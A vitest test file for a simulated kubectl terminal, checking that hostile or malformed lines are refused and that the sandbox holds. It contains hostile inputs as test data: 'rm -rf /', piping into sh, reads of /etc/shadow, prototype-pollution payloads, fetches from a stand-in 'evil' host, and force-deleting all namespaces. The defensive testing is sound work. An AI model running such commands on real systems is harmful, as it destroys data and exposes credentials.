import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { TerminalBench } from './terminal.testing.ts';

/** Bad lines typed at a terminal. What kubectl says stands here as the real one (1.35.2) says it. */
const WEB = `apiVersion: apps/v1
kind: Deployment
metadata: {name: web}
spec: {replicas: 2, selector: {matchLabels: {app: web}}, template: {metadata: {labels: {app: web}}, spec: {containers: [{name: app, image: nginx:1.27}]}}}`;

let bench: TerminalBench;
const fresh = (): void => {
  bench = new TerminalBench([WEB]);
  bench.pass(30);
};
const text = (line: string): string => bench.text(line);

afterEach(() => {
  expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
});

const PODS = /^NAME +READY +STATUS +RESTARTS +AGE\n(web-\S+ +1\/1 +Running +0 +\d+s\n){2}$/;
const REJECTED = 'E The request is invalid: the server rejected our request due to an error in our request\nexit 1\n';
const NO_PODS = 'E No resources found in default namespace.\n';
type Row = readonly [name: string, line: string, said: string | RegExp];
const rows = (list: readonly Row[]): void => {
  it.each(list)('%s', (_name, line, said) => {
    const answer = text(line);
    if (typeof said === 'string') expect(answer).toBe(said);
    else expect(answer).toMatch(said);
  });
};

describe('a line that is no line', () => {
  beforeAll(fresh);
  rows([
    ['empty', '', ''],
    ['blanks', ' \t  ', ''],
    ['a megabyte', `kubectl get pods ${'a'.repeat(1_000_000)}`, 'E error: the line is too long: at most 262144 characters are read\nexit 2\n'],
    ['100,000 words', `kubectl get ${'pods '.repeat(100_000)}`, /the line is too long/],
    ['20,000 words', `kubectl get ${'pods '.repeat(20_000)}`, /.{1,2000}/s],
    ['an open quote', "kubectl get 'pods", "E error: unclosed quote: a ' has no other ' after it\nexit 2\n"],
    ['an open double quote', 'kubectl get "pods', 'E error: unclosed quote: a " has no other " after it\nexit 2\n'],
    ['a backslash at the end', 'kubectl get pods \\', /ends with a backslash/],
    ['NUL', 'kubectl get po\0ds', 'E error: the line contains a NUL character\nexit 2\n'],
    ['$( ) of no program', 'echo $(whoami)', /^E whoami: command not found/],
    ['$( ) without end', 'kubectl get $(echo po', /unclosed \$\(/],
    ['&', 'kubectl get pods &', /& is not offered here/],
    ['another program', 'kubectl get ns -o name | sh', /^E sh: command not found \(here are/],
    ['a shell', 'bash -c "rm -rf /"', /^E bash: command not found/],
    ['a file of the machine', 'kubectl create -f /etc/hostname', 'E error: the path "/etc/hostname" does not exist\nexit 1\n'],
  ]);

  it('writes to files of its own only', () => {
    expect(text('echo x > /etc/passwd')).toBe('');
    expect(text('ls')).toBe('/etc/passwd\n');
    expect(text('cat /etc/shadow')).toMatch(/No such file/);
  });
});

describe('what an output format asks for', () => {
  beforeAll(fresh);
  rows([
    ['a field named constructor', 'kubectl explain pods.constructor', /^KIND: +Pod\nVERSION: +v1\n\nE error: field "constructor" does not exist\nexit 1\n$/],
    ['jsonpath: constructor', `kubectl get pods -o 'jsonpath={.items[*].constructor}'`, ''],
    ['jsonpath: __proto__', `kubectl get pods -o 'jsonpath={.items[0].metadata.__proto__}{.__proto__.polluted}'`, ''],
    ['jsonpath: ten thousand dots', `kubectl get pods -o 'jsonpath={${'.'.repeat(10_000)}[?(@.a==1)]}'`, /^E error: error (parsing|executing) jsonpath/],
    ['jsonpath: every step of every step', `kubectl get pods -o 'jsonpath={..*..*..*..*}'`, /unrecognized character in action: U\+002A '\*'/],
    ['jsonpath: all below all below all', `kubectl get pods -o 'jsonpath={..[*]..[*]..[*]..[*]..[*]..[*]}'`, /.*/s],
    ['jsonpath: a range that does not end', `kubectl get ns -o 'jsonpath={range .items[*]}x'`, 'xxxx'],
    [
      'go-template: range over nothing',
      `kubectl get pods -o 'go-template={{range}}'`,
      'E error: error parsing template {{range}}, template: output:1: missing value for range\nexit 1\n',
    ],
    ['go-template: if nothing', `kubectl get pods -o 'go-template={{if}}{{end}}'`, /missing value for if\nexit 1\n$/],
    ['go-template: an empty action', `kubectl get pods -o 'go-template={{}}'`, /missing value for command\nexit 1\n$/],
    ['go-template: constructor', `kubectl get pods -o 'go-template={{.constructor}} {{.__proto__}}'`, '<no value> <no value>'],
    ['go-template: one that calls itself', `kubectl get pods -o 'go-template={{define "a"}}{{template "a" .}}{{end}}{{template "a" .}}'`, /exit 1\n$/],
    ['go-template: ranges in ranges', `kubectl get ns -o 'go-template=${'{{range $.items}}'.repeat(14)}x${'{{end}}'.repeat(14)}'`, /exit 1\n$/],
    ['go-template: a wide number', `kubectl get ns default -o 'go-template={{printf "%1000000000d" 1}}'`, /^.{0,2000}$/s],
    ['columns: none', 'kubectl get pods -o custom-columns=', 'E error: custom-columns format specified but no custom columns given\nexit 1\n'],
    [
      'columns: no path',
      'kubectl get pods -o custom-columns=garbage',
      'E error: unexpected custom-columns spec: garbage, expected <header>:<json-path-expr>\nexit 1\n',
    ],
    ['columns: braces', `kubectl get pods -o 'custom-columns=A:.metadata.name,B:{{'`, /unexpected path string, expected a 'name1.name2' or '.name1.name2' or/],
    ['columns: constructor', 'kubectl get ns default -o custom-columns=A:.constructor,B:.__proto__', 'A        B\n<none>   <none>\n'],
    ['sorted by constructor', `kubectl get pods --sort-by='{.constructor}'`, NO_PODS],
    ['sorted by __proto__', `kubectl get pods --sort-by='{.__proto__.polluted}'`, NO_PODS],
    [
      'sorted by a list',
      'kubectl get pods --sort-by=.spec.containers',
      /^E F0101 00:\S+ +18100 sorter.go:375\] Field \{.spec.containers\} in .* an unsortable type: interface, err: unsortable type: \[\]interface \{\}\nexit 255\n$/,
    ],
    [
      'sorted by a map',
      'kubectl get pods -o name --sort-by=.metadata.labels',
      /sorter.go:329\] .* err: unsortable type: map\[string\]interface \{\}\nexit 255\n$/,
    ],
  ]);
});

const unable = (label: string, field: string, why: string): string =>
  `E Error from server (BadRequest): Unable to find "/v1, Resource=pods" that match label selector "${label}", field selector "${field}": ${why}\nexit 1\n`;

describe('selectors', () => {
  beforeAll(fresh);
  rows([
    ['in, unclosed', `kubectl get pods -l 'a in ('`, unable('a in (', '', "unable to parse requirement: found '', expected: ',', ')' or identifier")],
    ['of every kind', `kubectl get pods -l 'a=b,!c,d notin (e)'`, NO_PODS],
    ['ten thousand terms', `kubectl get pods -l '${Array.from({ length: 10_000 }, (_, i) => `k${i}=v`).join(',')}'`, NO_PODS],
    ['without a key', `kubectl get pods -l '=a'`, unable('=a', '', "found '=', expected: !, identifier, or 'end of string'")],
    ['__proto__', `kubectl get pods -l '__proto__=x'`, /Invalid value: "__proto__": name part must consist of/],
    ['constructor', 'kubectl get pods -l constructor', NO_PODS],
    ['not toString', `kubectl get pods -l '!toString'`, PODS],
    ['fields: nothing', `kubectl get pods --field-selector 'metadata.name!=,'`, PODS],
    ['fields: unknown', `kubectl get pods --field-selector 'nope=1'`, unable('', 'nope=1', 'field label not supported: nope')],
    [
      'fields: no operator',
      `kubectl get pods --field-selector 'metadata.name'`,
      unable('', 'metadata.name', "invalid selector: 'metadata.name'; can't understand 'metadata.name'"),
    ],
  ]);
});

const parsing = (value: string): string =>
  `E error: invalid argument "${value}" for "--replicas" flag: strconv.ParseInt: parsing "${value}": invalid syntax\nE See 'kubectl scale --help' for usage.\nexit 1\n`;

describe('scale', () => {
  beforeAll(fresh);
  rows([
    [
      'beyond int32',
      'kubectl scale deploy web --replicas=99999999999',
      /json: cannot unmarshal number 99999999999 into Go struct field ScaleSpec.spec.replicas of type int32\nexit 1\n$/,
    ],
    ['one beyond', 'kubectl scale deploy web --replicas=2147483648', /number 2147483648 into Go struct field/],
    [
      'less than none',
      'kubectl scale deploy web --replicas=-1',
      'E error: The --replicas=COUNT flag is required, and COUNT must be greater than or equal to 0\nexit 1\n',
    ],
    ['1e3', 'kubectl scale deploy web --replicas=1e3', parsing('1e3')],
    ['nothing', 'kubectl scale deploy web --replicas=', parsing('')],
    ['not said', 'kubectl scale deploy web', 'E error: required flag(s) "replicas" not set\nexit 1\n'],
    ['and nothing was done', 'kubectl get pods', PODS],
  ]);
});

const json = (operations: readonly object[]): string => `kubectl patch deploy web --type=json -p '${JSON.stringify(operations)}'`;
const copies = (from: string, path: (i: number) => string): string => json(Array.from({ length: 40 }, (_, i) => ({ op: 'copy', from, path: path(i) })));
const merge = (patch: string): string => `kubectl patch deploy web --type=merge -p '${patch}'`;
const noMap = (what: string): string => `json: cannot unmarshal ${what} into Go value of type map[string]interface {}\nexit 1\n`;

describe('patch', () => {
  beforeAll(fresh);
  rows([
    [
      '$patch: delete',
      `kubectl patch deploy web -p '{"spec":{"$patch":"delete"}}'`,
      /^E The Deployment "web" is invalid: \nE \* spec.selector: Required value\n/,
    ],
    [
      '$patch: unknown',
      `kubectl patch deploy web -p '{"spec":{"$patch":"what"}}'`,
      'E Error from server: unknown patch type: what in map: map[$patch:what]\nexit 1\n',
    ],
    [
      'another uid',
      json([{ op: 'replace', path: '/metadata/uid', value: 'x' }]),
      'E The Deployment "web" is invalid: metadata.uid: Invalid value: "x": field is immutable\nexit 1\n',
    ],
    ['no uid', json([{ op: 'replace', path: '/metadata/uid' }]), 'deployment.apps/web patched (no change)\n'],
    ['below __proto__', json([{ op: 'add', path: '/__proto__/polluted', value: 1 }]), REJECTED],
    ['below constructor', json([{ op: 'add', path: '/constructor/prototype/polluted', value: 1 }]), REJECTED],
    ['-1 of a list is its last', json([{ op: 'remove', path: '/spec/template/spec/containers/-1' }]), /spec.template.spec.containers: Required value/],
    ['beyond a list', json([{ op: 'remove', path: '/spec/template/spec/containers/5' }]), REJECTED],
    ['of no list', json([{ op: 'remove', path: '/spec/containers/-1' }]), REJECTED],
    ['~2', json([{ op: 'remove', path: '/~2' }]), REJECTED],
    ['an unknown operation', json([{ op: 'what', path: '/spec' }]), REJECTED],
    ['without a path', json([{ op: 'add' }]), REJECTED],
    [
      'a test that fails half way',
      json([
        { op: 'replace', path: '/spec/replicas', value: 7 },
        { op: 'test', path: '/spec/paused', value: true },
      ]),
      REJECTED,
    ],
    [
      'copies one inside the other',
      json([{ op: 'copy', from: '/spec/template', path: '/a' }, ...Array.from({ length: 40 }, () => ({ op: 'copy', from: '/a', path: '/a/a' }))]),
      /unknown field "a"/,
    ],
    ['copies of a whole into itself', copies('/metadata/labels', (i) => `/metadata/labels/x${i}`), /exit 1\n$/],
    [
      'no list',
      `kubectl patch deploy web --type=json -p '{"op":"add"}'`,
      'E Error from server (BadRequest): error decoding patch: json: cannot unmarshal object into Go value of type []handlers.jsonPatchOp\nexit 1\n',
    ],
    ['a list of numbers', `kubectl patch deploy web --type=json -p '[1]'`, /cannot unmarshal number into Go value of type handlers.jsonPatchOp\nexit 1\n$/],
    ['half a JSON', merge('{'), 'E Error from server (BadRequest): error decoding patch: unexpected end of JSON input\nexit 1\n'],
    ['a list for a map', merge('[]'), `E Error from server (BadRequest): error decoding patch: ${noMap('array')}`],
    ['a number for a map', `kubectl patch deploy web -p 5`, `E Error from server (BadRequest): ${noMap('number')}`],
    ['null', merge('null'), 'E Error from server (BadRequest): Invalid JSON Patch\nexit 1\n'],
    ['nothing', merge(''), 'E error: must specify --patch or --patch-file containing the contents of the patch\nexit 1\n'],
    ['a type that is none', `kubectl patch deploy web --type=foo -p '{}'`, 'E error: --type must be one of [json merge strategic], not "foo"\nexit 1\n'],
    ['__proto__', merge('{"__proto__":{"polluted":1}}'), 'E Warning: unknown field "__proto__"\ndeployment.apps/web patched (no change)\n'],
    ['a label __proto__', merge('{"metadata":{"labels":{"__proto__":"x"}}}'), /metadata.labels: Invalid value: "__proto__": name part must consist of/],
    ['and nothing was done', 'kubectl get pods', PODS],
  ]);
});

describe('what destroys everything', () => {
  beforeAll(fresh);
  rows([
    [
      'names and --all',
      'kubectl delete ns default kube-system --all --force --grace-period=0',
      'E error: name cannot be provided when a selector is specified\nexit 1\n',
    ],
    [
      'namespaces that stay',
      'kubectl delete ns default kube-system kube-public',
      'E Error from server (Forbidden): namespaces "default" is forbidden: this namespace may not be deleted\n' +
        'E Error from server (Forbidden): namespaces "kube-system" is forbidden: this namespace may not be deleted\n' +
        'E Error from server (Forbidden): namespaces "kube-public" is forbidden: this namespace may not be deleted\nexit 1\n',
    ],
    ['a type alone', 'kubectl delete pods', 'E error: resource(s) were provided, but no name was specified\nexit 1\n'],
    ['all of nothing', 'kubectl delete', /^E error: You must provide one or more resources by argument or filename\./],
    ['a node that is not there', 'kubectl drain nope', 'E Error from server (NotFound): nodes "nope" not found\nexit 1\n'],
  ]);

  it('every namespace, by force: those that may go do, the cluster lives on', () => {
    text('kubectl create ns a');
    const answer = text('kubectl delete ns --all --force --grace-period=0');
    expect(answer).toContain('namespace "a" force deleted');
    expect(answer).toContain('namespaces "default" is forbidden');
    bench.pass(180);
    expect(text('kubectl get ns')).toMatch(/^NAME .*\n(default|kube-node-lease|kube-public|kube-system) +Active/);
    expect(text('kubectl get ns -o name')).toBe('namespace/default\nnamespace/kube-node-lease\nnamespace/kube-public\nnamespace/kube-system\n');
    expect(text('kubectl get nodes')).not.toContain('NotReady');
  });

  it('the Service kubernetes: the API server makes it again', () => {
    expect(text('kubectl delete svc,endpoints,endpointslices --all')).toContain('service "kubernetes" deleted');
    bench.pass(11);
    expect(text('kubectl get svc')).toMatch(/kubernetes +ClusterIP +10\.96\.0\.1 +<none> +443\/TCP/);
    expect(text('kubectl get endpointslices kubernetes')).toMatch(/kubernetes +IPv4 +6443 +10\.0\.0\.10/);
  });

  it('the last node is drained while all pods are deleted: pods wait, and come back with the node', () => {
    for (const node of ['node-1', 'node-2']) text(`kubectl drain ${node} --ignore-daemonsets`);
    expect(text('kubectl drain node-3 --ignore-daemonsets --timeout=60s')).toMatch(/pod\/web-\S+ evicted\nnode\/node-3 drained\n$/);
    expect(text('kubectl delete pods --all -A')).toMatch(/deleted from default namespace/);
    expect(text('kubectl drain control-plane')).toBe('node/control-plane cordoned\nnode/control-plane drained\n');
    expect(text('kubectl get pods')).toMatch(/(web-\S+ +0\/1 +Pending +0 +\d+s\n){2}$/);
    text('kubectl uncordon node-2');
    bench.pass(30);
    expect(text('kubectl get pods')).toMatch(PODS);
  });
});

describe('manifests that come back', () => {
  beforeAll(fresh);

  it('what was written down is applied, replaced by force, and refused where it is too old', () => {
    text('kubectl get deploy web -o yaml > web.yaml');
    expect(text('kubectl create -f web.yaml')).toBe(
      'E Error from server (AlreadyExists): error when creating "web.yaml": deployments.apps "web" already exists\nexit 1\n',
    );
    text('kubectl scale deploy web --replicas=3');
    expect(text('kubectl replace -f web.yaml')).toMatch(/^E Error from server \(Conflict\): error when replacing "web.yaml": Operation cannot be fulfilled/);
    expect(text('kubectl replace --force -f web.yaml')).toBe('deployment.apps "web" deleted from default namespace\ndeployment.apps/web replaced\n');
    expect(text('kubectl replace -f web.yaml')).toMatch(/Conflict.*Precondition failed: UID in precondition/);
  });

  it('server-side: who owns a field is asked', () => {
    const apply = (flags: string): string =>
      text(
        `kubectl apply --server-side --field-manager=me ${flags} -f - <<'EOF'\napiVersion: apps/v1\nkind: Deployment\nmetadata: {name: web}\nspec: {replicas: 9}\nEOF`,
      );
    expect(apply('')).toMatch(/^E error: Apply failed with 1 conflict: conflict with "\S+"( using apps\/v1)?: .spec.replicas\n/);
    // What the client applied before goes to this manager, and is gone from the manifest that is applied again: kubectl says so, and that it was applied.
    expect(apply('--force-conflicts')).toMatch(
      /^E Warning: failed to re-apply configuration after performing Server-Side Apply migration\..*\ndeployment\.apps\/web serverside-applied\n$/,
    );
  });
});

const elsewhere = /is not offered here: this terminal reaches its own cluster only, as its administrator\nexit 1\n$/;
const fetched = /addresses are not offered here: nothing is fetched from the network\nexit 1\n$/;

describe('ways out of the page', () => {
  beforeAll(fresh);
  rows([
    ['--kubeconfig', 'kubectl get pods --kubeconfig=/etc/passwd', elsewhere],
    ['--server', 'kubectl get pods --server=http://evil', elsewhere],
    ['-s', 'kubectl get pods -s http://evil', elsewhere],
    ['--as', 'kubectl get pods --as=x', elsewhere],
    ['--token', 'kubectl get pods --token=x', elsewhere],
    ['-f http', 'kubectl apply -f http://evil/x.yaml', fetched],
    ['-f https', 'kubectl create -f https://evil/x.yaml', fetched],
    ['-f /dev/zero', 'kubectl apply -f /dev/zero', 'E error: the path "/dev/zero" does not exist\nexit 1\n'],
    ['-f - without input', 'kubectl apply -f -', 'E error: no objects passed to apply\nexit 1\n'],
    ['proxy', 'kubectl proxy', /^E error: kubectl proxy is not offered here/],
    ['port-forward', 'kubectl port-forward svc/web 8080:80', /^E error: kubectl port-forward is not offered here/],
    ['debug', 'kubectl debug node/node-1 -it --image=busybox', /^E error: kubectl debug is not offered here/],
    ['cp of a file of the machine', 'kubectl cp /etc/passwd web:/x', /^E .*\nexit 1\n$/],
    ['a verb that is none', 'kubectl krew', 'E error: unknown command "krew" for "kubectl"\nexit 1\n'],
  ]);
});
